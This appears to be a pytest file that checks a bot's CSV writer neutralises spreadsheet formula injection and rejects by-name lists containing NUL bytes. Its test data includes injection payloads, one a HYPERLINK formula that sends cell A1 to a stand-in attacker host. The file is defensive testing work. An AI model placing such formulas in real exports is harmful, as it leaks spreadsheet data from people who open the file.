"""CSV casebot writes opens in a spreadsheet as text: a cell that would start a formula gets an apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bot.csv_cells import InertCsvWriter, inert
from bot.oversight.audit_service import Disclosure, write_accounting_csv
from bot.sharing.by_name_lists import BnlError, parse_list_csv


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_would_start_a_formula_is_written_as_text(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Hope House", "2026-01-01", '{"a": 1}', "", 42, None, "a=b", "-5", "+1.5"])
def test_everything_else_is_written_as_it_is(value: object) -> None:
    assert inert(value) == value


def test_a_typed_purpose_in_the_accounting_of_disclosures_cannot_become_a_formula() -> None:
    out = io.StringIO()
    typed = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    row = Disclosure(1, datetime(2026, 1, 2, tzinfo=UTC), "U1", "hope-house", "dob", typed, "roi", "dm")
    write_accounting_csv([row], out)
    (_, written) = list(csv.reader(io.StringIO(out.getvalue())))
    assert written[5] == "'" + typed


def test_the_writer_escapes_every_row_it_writes() -> None:
    out = io.StringIO()
    InertCsvWriter(out).writerows([["=1", "ok"], ["@x", 2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "ok"], ["'@x", "2"]]


def test_a_by_name_list_with_a_nul_byte_is_refused_naming_line_and_column() -> None:
    text = "PersonalID,Status\n100001,active\n100002,act\x00ive\n"
    with pytest.raises(BnlError, match=r"^line 3, column Status: contains a NUL byte$"):
        parse_list_csv(text)
